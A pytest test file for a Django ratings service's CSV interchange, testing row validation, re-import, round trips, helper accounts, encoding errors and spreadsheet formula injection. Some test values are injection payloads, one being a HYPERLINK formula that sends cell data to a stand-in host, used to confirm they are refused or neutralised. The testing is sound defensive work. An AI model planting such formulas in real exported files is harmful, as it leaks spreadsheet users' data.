"""The interchange CSV: good files, every kind of bad row, re-import and round trip."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command

from services.accounts.models import Membership, Role, User
from services.clients.models import Client, Episode
from services.ratings.interchange import (
    COLUMNS,
    ImportRejected,
    export_rows,
    import_rows,
    read_rows,
)
from services.ratings.models import Rating
from services.sessions.models import Session
from tests.factories import MembershipFactory, ServiceFactory, UserFactory

pytestmark = pytest.mark.django_db

HEADER = ",".join(COLUMNS)
GOOD = [
    "oslo,K1,adult,F1,2026-01-05,2026-03-02,planned,1,2026-01-05,kari,ors,client,4.0,5.0,6.0,5.5,20.5",
    "oslo,K1,adult,F1,2026-01-05,2026-03-02,planned,1,2026-01-05,kari,srs,client,9.0,9.5,8.0,9.0,35.5",
    "oslo,K1,adult,F1,2026-01-05,2026-03-02,planned,2,2026-01-19,kari,ors,client,,,,,27.0",
    "oslo,K2,child,F1,2026-02-01,,,1,2026-02-01,ola,cors,client,5,5,5,5,20",
    "oslo,K2,child,F1,2026-02-01,,,1,2026-02-01,ola,cors,parent,6,6,6,6,24",
]


def csv_text(*rows: str) -> str:
    return "\n".join([HEADER, *rows]) + "\n"


def do_import(text: str, create_helpers: bool = True):
    """Most tests are not about accounts, so their helpers are created as the command's
    --create-helpers would; the tests about helpers say create_helpers=False."""
    return import_rows(read_rows(io.StringIO(text)), create_helpers=create_helpers)


def test_a_good_file_creates_everything():
    summary = do_import(csv_text(*GOOD))
    assert summary.created == {
        "services": 1,
        "helpers": 2,
        "clients": 2,
        "episodes": 2,
        "sessions": 3,
        "ratings": 5,
    }
    episode = Episode.objects.get(client__code="K1")
    assert (episode.end_date.isoformat(), episode.end_reason) == ("2026-03-02", "planned")
    assert [h.username for h in episode.helpers.all()] == ["kari"]
    assert Membership.objects.filter(user__username="ola", role="helper").exists()
    assert not User.objects.get(username="ola").has_usable_password()
    assert not User.objects.get(username="ola").is_active
    paper = Rating.objects.get(session__number=2)
    assert (paper.items, paper.total, paper.method) == (None, Decimal("27.0"), "import")
    parent = Rating.objects.get(rater="parent")
    assert parent.instrument.key == "cors"
    assert Client.objects.get(code="K2").age_group == "child"


def test_importing_the_same_file_twice_changes_nothing():
    do_import(csv_text(*GOOD))
    before = list(Rating.objects.order_by("pk").values())
    summary = do_import(csv_text(*GOOD))
    assert summary.created == {}
    assert summary.unchanged == 5
    assert list(Rating.objects.order_by("pk").values()) == before


def bad(row_change: str, line: str = GOOD[0]) -> str:
    columns = line.split(",")
    column, value = row_change.split("=", 1)
    columns[COLUMNS.index(column)] = value
    return ",".join(columns)


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (bad("age_group=senior"), "age_group must be one of"),
        (bad("episode_start=05.01.2026"), "episode_start is not a date"),
        (bad("episode_start="), "episode_start is missing"),
        (bad("episode_end=2025-12-01"), "episode_end is before episode_start"),
        (bad("end_reason="), "end_reason must be one of"),
        (bad("end_reason=bored"), "end_reason must be one of"),
        (bad("session=0"), "session must be a whole number"),
        (bad("session=one"), "session must be a whole number"),
        # A DataError on PostgreSQL (the column is an integer) instead of a line error: found by
        # the FHIR import's tests (issue #19).
        (bad("session=99999999999999999999"), "session must be a whole number"),
        (bad("session_date=2026-04-01"), "session_date is outside the episode"),
        (bad("instrument=phq9"), "instrument must be one of"),
        (bad("instrument=cors"), "is not for age group adult"),
        (bad("rater=neighbour"), "rater must be one of"),
        (bad("item1=11"), "item1: The score must be between 0 and 10"),
        (bad("item2=abc"), "item2: The score must be a number"),
        (bad("item3=6.25"), "item3: The score can have at most 1 decimal"),
        (bad("item4="), "item4: This item has not been answered"),
        (bad("total=21.0"), "not the sum of the items"),
        (bad("total="), "total: This item has not been answered"),
        (bad("total=41", GOOD[2]), "total: The score must be between 0 and 40"),
        (bad("client="), "client is missing"),
        (bad("service=" + "x" * 41), "longer than 40"),
        (GOOD[0] + ",extra", "more columns than the header"),
    ],
)
def test_one_bad_row_rejects_the_whole_file_with_its_line(row, reason):
    text = csv_text(GOOD[1], row, GOOD[2])
    with pytest.raises(ImportRejected) as rejected:
        do_import(text)
    assert rejected.value.errors[0][0] == 3
    assert reason in rejected.value.errors[0][1]
    assert not Rating.objects.exists()
    assert not Client.objects.exists()


def test_end_reason_without_an_end_date_is_refused():
    row = bad("end_reason=dropout", GOOD[3])
    with pytest.raises(ImportRejected, match="end_reason is given but episode_end is empty"):
        do_import(csv_text(row))


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        # Issue #12 item 10 (review): no age_group rule here any more. The column is each
        # rating's own group, and a client's group may differ between ratings (see
        # test_interchange_age_groups.py).
        (bad("episode_end=2026-03-09", GOOD[1]), "episode's dates or end reason differs"),
        (bad("session_date=2026-01-06", GOOD[1]), "session's date or helper differs"),
        (
            bad("total=35.5", GOOD[0]).replace("4.0,5.0,6.0,5.5", "9.0,9.5,8.0,9.0"),
            "another rating",
        ),
    ],
)
def test_rows_about_the_same_thing_must_agree(row, reason):
    with pytest.raises(ImportRejected) as rejected:
        do_import(csv_text(GOOD[0], row))
    assert rejected.value.errors == [(3, rejected.value.errors[0][1])]
    assert reason in rejected.value.errors[0][1]


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        # Issue #12 item 10 (review): the age group is the rating's, so it is checked against
        # the stored rating, not against the client's recorded group.
        (bad("age_group=adolescent"), "already has its ors rating stored for age group adult"),
        (bad("episode_end=2026-03-09"), "is stored with other dates"),
        (bad("session_date=2026-01-06"), "is stored with another date"),
        (bad("total=21.0").replace("4.0,5.0,6.0,5.5", "4.0,5.0,6.0,6.0"), "a different ors rating"),
    ],
)
def test_rows_must_agree_with_stored_data_and_nothing_is_half_saved(row, reason):
    do_import(csv_text(*GOOD))
    counts = (Rating.objects.count(), Session.objects.count())
    with pytest.raises(ImportRejected, match=reason):
        do_import(csv_text(GOOD[3].replace("K2", "K9"), row))
    assert (Rating.objects.count(), Session.objects.count()) == counts
    assert not Client.objects.filter(code="K9").exists()


def test_a_wrong_header_or_empty_file_is_refused():
    with pytest.raises(ImportRejected, match="header must be exactly"):
        do_import("client,service\nK1,oslo\n")
    with pytest.raises(ImportRejected, match="no rows"):
        do_import(HEADER + "\n")


def test_every_bad_line_is_listed():
    with pytest.raises(ImportRejected) as rejected:
        do_import(csv_text(bad("rater=x"), GOOD[1], bad("item1=12", GOOD[2])))
    assert [line for line, _ in rejected.value.errors] == [2, 4]


def test_export_then_import_into_an_empty_database_round_trips(tmp_path):
    do_import(csv_text(*GOOD))
    exported = list(export_rows())
    assert exported[0] == list(COLUMNS)
    assert len(exported) == 6
    Rating.objects.all().delete()
    Client.objects.all().delete()
    text = "\n".join(",".join(row) for row in exported) + "\n"
    summary = do_import(text)
    assert summary.created["ratings"] == 5
    assert list(export_rows()) == exported


def test_the_commands_import_and_export(tmp_path, capsys):
    source = tmp_path / "ratings.csv"
    source.write_text(csv_text(*GOOD), encoding="utf-8")
    call_command("import_ratings", str(source), "--create-helpers")
    assert "5 ratings" in capsys.readouterr().out
    target = tmp_path / "out.csv"
    call_command("export_ratings", "--service", "oslo", "--from", "2026-01-19", "-o", str(target))
    rows = list(csv.reader(target.open(encoding="utf-8")))
    assert rows[0] == list(COLUMNS)
    assert [row[COLUMNS.index("session_date")] for row in rows[1:]] == [
        "2026-01-19",
        "2026-02-01",
        "2026-02-01",
    ]


def test_the_import_command_reports_the_bad_line(tmp_path):
    source = tmp_path / "ratings.csv"
    source.write_text(csv_text(GOOD[0], bad("item1=12")), encoding="utf-8")
    with pytest.raises(CommandError, match="line 3: item1: The score must be between 0 and 10"):
        call_command("import_ratings", str(source))
    with pytest.raises(CommandError, match="No such file"):
        call_command("import_ratings", str(tmp_path / "missing.csv"))


# Issue #11: formula injection, helpers across services, bad bytes.


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (bad("client==1+2"), "client must not start with"),
        (bad("client=+47"), "client must not start with"),
        (bad("client=-K1"), "client must not start with"),
        (bad("client=@SUM(1)"), "client must not start with"),
        (bad('helper==HYPERLINK("http://x.example/?"&A1)'), "helper must not start with"),
        (bad("helper=@kari"), "helper must not start with"),
        (bad("episode==1+2"), "episode must not start with"),
        (bad("service=-oslo"), "service must not start with"),
        (bad("client=K\x001"), "client contains a control character"),
        (bad("item1=" + "9" * 5000), "item1 is longer than"),
    ],
)
def test_formula_like_codes_and_odd_values_are_refused_with_their_line(row, reason):
    with pytest.raises(ImportRejected) as rejected:
        do_import(csv_text(GOOD[1], row))
    assert rejected.value.errors[0][0] == 3
    assert reason in rejected.value.errors[0][1]
    assert not Rating.objects.exists()
    assert not User.objects.exists()


def test_a_helper_of_another_service_is_never_linked(service):
    stranger = UserFactory(username="kari")
    MembershipFactory(user=stranger, service=ServiceFactory(code="bergen"), role=Role.HELPER)
    for create_helpers in (False, True):
        with pytest.raises(ImportRejected) as rejected:
            do_import(csv_text(GOOD[0]), create_helpers=create_helpers)
        assert rejected.value.errors == [(2, "helper kari is not a helper in service oslo")]
    assert list(stranger.memberships.values_list("service__code", flat=True)) == ["bergen"]
    assert not Rating.objects.exists()


def test_a_leader_of_the_service_is_not_made_a_helper(service):
    MembershipFactory(user=UserFactory(username="kari"), service=service, role=Role.LEADER)
    with pytest.raises(ImportRejected, match="helper kari is not a helper in service oslo"):
        do_import(csv_text(GOOD[0]), create_helpers=True)
    assert not Membership.objects.filter(role=Role.HELPER).exists()


def test_an_unknown_helper_is_an_error_without_the_flag():
    with pytest.raises(ImportRejected) as rejected:
        do_import(csv_text(*GOOD), create_helpers=False)
    assert [line for line, _ in rejected.value.errors] == [2, 5]
    assert "helper kari has no account" in rejected.value.errors[0][1]
    assert not User.objects.exists()
    assert not Client.objects.exists()


def test_existing_helpers_of_the_service_are_linked_without_new_accounts(service):
    kari = UserFactory(username="kari")
    MembershipFactory(user=kari, service=service, role=Role.HELPER)
    summary = do_import(csv_text(*GOOD[:3]), create_helpers=False)
    assert "helpers" not in summary.created
    assert kari.memberships.count() == 1
    assert list(Episode.objects.get(client__code="K1").helpers.all()) == [kari]
    assert User.objects.get(username="kari").is_active


def test_created_helpers_make_a_second_import_change_nothing():
    do_import(csv_text(*GOOD), create_helpers=True)
    summary = do_import(csv_text(*GOOD), create_helpers=False)
    assert summary.created == {}
    assert Membership.objects.count() == 2


def test_a_new_helper_name_must_be_a_valid_username():
    with pytest.raises(ImportRejected, match="line 2: helper kari nordmann is not a valid"):
        do_import(csv_text(bad("helper=kari nordmann")), create_helpers=True)


def import_file(tmp_path, data: bytes, *options):
    source = tmp_path / "ratings.csv"
    source.write_bytes(data)
    call_command("import_ratings", str(source), *options)


def file_bytes(*rows: str) -> bytes:
    return csv_text(*rows).encode()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (file_bytes(GOOD[0], GOOD[1].replace("K1", "K\x001")), "line 3: client contains a control"),
        (file_bytes(GOOD[0], bad("client=" + "x" * 200_000)), "line 3: a value is longer than"),
        (
            file_bytes(GOOD[0]) + GOOD[1].replace("kari", "kåri").encode("latin-1"),
            "line 3: not UTF-8",
        ),
        (file_bytes(GOOD[0]) + b"\xff\xfe", "line 3: not UTF-8"),
        (b"x" * 200_000 + b"\n", "line 1: a value is longer than"),
        (b"", "line 1: the file is empty"),
        (b"\xef\xbb\xbf", "line 1: the file is empty"),
        (b"\n\n", "line 1: the header must be exactly"),
        ((HEADER + "\n").encode(), "line 1: the file has no rows"),
        (csv_text(GOOD[0]).encode("utf-16"), "line 1: not UTF-8"),
    ],
    ids=[
        "nul",
        "huge",
        "latin1",
        "bad-tail",
        "huge-header",
        "empty",
        "bom-only",
        "blank",
        "header",
        "utf16",
    ],
)
def test_bad_bytes_are_a_line_numbered_error_and_nothing_is_stored(tmp_path, data, message):
    with pytest.raises(CommandError, match=message):
        import_file(tmp_path, data, "--create-helpers")
    assert not Rating.objects.exists()
    assert not User.objects.exists()


@pytest.mark.parametrize("line_end", [b"\r\n", b"\r"])
def test_a_byte_order_mark_and_other_line_ends_are_accepted(tmp_path, line_end):
    data = b"\xef\xbb\xbf" + file_bytes(*GOOD).replace(b"\n", line_end)
    import_file(tmp_path, data, "--create-helpers")
    assert Rating.objects.count() == 5


def test_a_lone_carriage_return_file_reports_the_right_line(tmp_path):
    data = file_bytes(GOOD[0], bad("item1=12")).replace(b"\n", b"\r")
    with pytest.raises(CommandError, match="line 3: item1"):
        import_file(tmp_path, data, "--create-helpers")


def test_the_export_command_neutralises_formula_cells(tmp_path):
    do_import(csv_text(*GOOD))
    Client.objects.filter(code="K1").update(code="=1+2")
    Episode.objects.filter(client__code="K2").update(code="@SUM(A1)")
    User.objects.filter(username="kari").update(username='=HYPERLINK("http://x.example")')
    target = tmp_path / "out.csv"
    call_command("export_ratings", "-o", str(target))
    rows = list(csv.reader(target.open(encoding="utf-8")))
    cells = {cell for row in rows[1:] for cell in row}
    assert {"'=1+2", "'@SUM(A1)", '\'=HYPERLINK("http://x.example")'} <= cells
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells)
